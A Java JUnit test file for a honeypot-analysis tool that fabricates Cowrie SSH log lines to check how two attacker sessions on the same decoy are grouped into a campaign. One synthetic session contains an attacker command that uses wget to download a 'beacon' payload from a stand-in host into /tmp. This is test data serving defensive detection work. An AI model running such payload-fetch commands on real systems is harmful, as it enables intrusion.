package org.decnet.acceptance.identity;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Objects;
import java.util.UUID;
import org.decnet.model.cluster.ClusterLevel;
import org.decnet.model.cluster.StoredEdge;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** One leaves a decoy under control, another comes to look around: from raw lines of Cowrie. */
class HandoffTest {
  private static final Instant START = Instant.parse("2026-03-01T10:00:00Z");
  private static final String BROKER = "203.0.113.20";
  private static final String OPERATOR = "198.51.100.40";

  @TempDir private Path folder;

  @Test
  void whoComesWithinADayJoinsTheCampaign() {
    try (Folder found = clustered("web-1", "web-1", Duration.ofHours(3))) {
      UUID campaign = Objects.requireNonNull(found.identity(BROKER).campaign());
      assertThat(campaign).isEqualTo(found.identity(OPERATOR).campaign());
      assertThat(found.identity(BROKER).uuid()).isNotEqualTo(found.identity(OPERATOR).uuid());
      assertThat(found.stores().identities().edges(ClusterLevel.CAMPAIGN, campaign, 10, 0).data())
          .filteredOn(edge -> edge.family().equals("phase_handoff"))
          .extracting(StoredEdge::shared)
          .containsExactly(List.of("decky:web-1"));
    }
  }

  @Test
  void whoComesTwentyFiveHoursLaterDoesNot() {
    try (Folder found = clustered("web-1", "web-1", Duration.ofHours(25))) {
      assertThat(found.identity(BROKER).campaign()).isNull();
      assertThat(found.identity(OPERATOR).campaign()).isNull();
    }
  }

  @Test
  void whoComesToAnotherDecoyDoesNot() {
    try (Folder found = clustered("web-1", "db-1", Duration.ofHours(3))) {
      assertThat(found.identity(BROKER).campaign()).isNull();
      assertThat(found.identity(OPERATOR).campaign()).isNull();
    }
  }

  private Folder clustered(String brokersDecoy, String operatorsDecoy, Duration pause) {
    Folder into = Folder.at(folder.resolve("data"));
    List<String> lines = new ArrayList<>();
    lines.addAll(
        session("aa01", brokersDecoy, BROKER, START, "wget http://192.0.2.66/beacon -O /tmp/b"));
    lines.addAll(
        session("bb02", operatorsDecoy, OPERATOR, START.plus(pause), "uname -a", "ps aux"));
    into.ingest(lines);
    into.cluster();
    return into;
  }

  private static List<String> session(
      String id, String decoy, String ip, Instant start, String... commands) {
    List<String> lines = new ArrayList<>();
    lines.add(line(id, decoy, ip, start, "session.connect", "\"protocol\":\"ssh\","));
    lines.add(
        line(
            id,
            decoy,
            ip,
            start.plusSeconds(1),
            "login.success",
            "\"username\":\"deploy\",\"password\":\"" + id + "\","));
    for (int i = 0; i < commands.length; i++) {
      lines.add(
          line(
              id,
              decoy,
              ip,
              start.plusSeconds(2 + i),
              "command.input",
              "\"input\":\"" + commands[i] + "\","));
    }
    lines.add(line(id, decoy, ip, start.plusSeconds(30), "session.closed", "\"duration\":30.0,"));
    return lines;
  }

  private static String line(
      String id, String decoy, String ip, Instant time, String event, String fields) {
    return "{\"eventid\":\"cowrie."
        + event
        + "\","
        + fields
        + "\"src_ip\":\""
        + ip
        + "\",\"session\":\""
        + id
        + "\",\"sensor\":\""
        + decoy
        + "\",\"timestamp\":\""
        + time
        + "\"}";
  }
}
